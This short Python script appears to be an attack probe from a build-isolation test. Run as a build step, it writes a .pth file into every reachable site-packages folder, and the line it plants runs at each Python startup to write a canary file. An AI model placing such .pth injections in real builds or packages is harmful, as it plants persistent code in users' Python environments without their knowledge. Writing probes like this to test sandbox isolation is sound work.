"""Run as the build step: a .pth file and a plugin into whatever environment can be reached."""

import os
import sys

from target import T, trying

LINE = f"import os; open({T['canary']!r}, 'w').write('pth')\n"


def write(folder):
    with open(os.path.join(folder, "zz_attack.pth"), "w") as file:
        file.write(LINE)


for folder in {*T["site_packages"], *(path for path in sys.path if path.endswith("site-packages"))}:
    trying(lambda folder=folder: write(folder))
